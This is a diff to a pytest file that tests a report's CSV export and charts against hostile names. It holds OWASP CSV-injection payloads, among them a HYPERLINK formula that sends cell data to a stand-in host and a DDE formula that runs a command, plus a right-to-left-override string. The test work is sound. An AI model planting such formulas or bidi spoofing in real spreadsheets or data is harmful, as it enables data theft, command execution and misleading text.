@@ -255,17 +255,20 @@ def test_drill_down_sort_csv_print_and_dark_mode(page_report: Path, tmp_path: Pa
 #: OWASP's CSV-injection payloads, as variant, judge and scenario names
 FORMULAS = ('=HYPERLINK("http://x/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-1+2",
             "@SUM(A1)", "\t=1+2", "\r=1+2")
+#: a variant name holding a line separator, a paragraph separator and a right-to-left override
+SEPARATED = "v\u2028line\u2029para\u202eevil"
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
 
 
 @pytest.fixture(scope="module")
 def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A report whose variant, judge and scenario names are formulas."""
+    """A report whose variant, judge and scenario names are formulas, one variant's name
+    holding U+2028, U+2029 and U+202E."""
     _need_chromium()
     base = tmp_path_factory.mktemp("hostile")
     rng = random.Random(3)
-    variants = [FORMULAS[0], FORMULAS[1], FORMULAS[2], "base"]
+    variants = [FORMULAS[0], FORMULAS[1], FORMULAS[2], SEPARATED, "base"]
     judges = [FORMULAS[3], FORMULAS[4]]
     scenarios = [FORMULAS[5], FORMULAS[6], "s2", "s3", "s4", "s5"]
     rows = [
@@ -364,3 +367,35 @@ def test_csv_export_neutralises_formulas(hostile_report: Path, tmp_path: Path) -
                  for c in row] for row in dom]
         assert got == want
 
+def test_charts_draw_names_with_separators_and_bidi_controls(hostile_report: Path) -> None:
+    """A name holding U+2028, U+2029 or U+202E keeps both interactive charts: Vega-Lite
+    builds no expression from the names, and the charts show the name escaped."""
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as p:
+        browser = _launch(p)
+        try:
+            page = browser.new_page(viewport={"width": 1280, "height": 1600})
+            page.goto(hostile_report.as_uri(), wait_until="load")
+            _charts_settled(page)
+            failed = page.evaluate("Array.from(document.querySelectorAll('.wb-vega-failed'))"
+                                   ".map(f => f.id + ': ' + "
+                                   "f.querySelector('.wb-vega-target').textContent.slice(0, 200))")
+            charts = page.evaluate("""() => Array.from(document.querySelectorAll('.wb-vega')).map(f => ({
+                id: f.id, ready: f.classList.contains('wb-vega-ready'),
+                text: Array.from(f.querySelectorAll('.wb-vega-target svg text')).map(t => t.textContent),
+                area: Array.from(f.querySelectorAll('.wb-vega-target svg')).map(
+                    s => s.getBoundingClientRect().width * s.getBoundingClientRect().height)}))""")
+            body = page.evaluate("document.body.innerText")
+        finally:
+            browser.close()
+    assert failed == [] and "interactive chart unavailable" not in body, failed
+    assert [c["id"] for c in charts] == ["chart-missing_heatmap", "chart-scorecard_forest"]
+    escaped = "v\\u2028line\\u2029para\\u202eevil"
+    for c in charts:
+        assert c["ready"] and len(c["area"]) == 1 and c["area"][0] > 10000, c["id"]
+        labels = " ".join(c["text"])
+        assert escaped in labels, (c["id"], c["text"])
+        assert not any(ch in labels for ch in "\u2028\u2029\u202e"), c["id"]
+        for name in FORMULAS[1:3]:  # other variants drawn as named (a long name is cut)
+            assert name in labels, (c["id"], name)
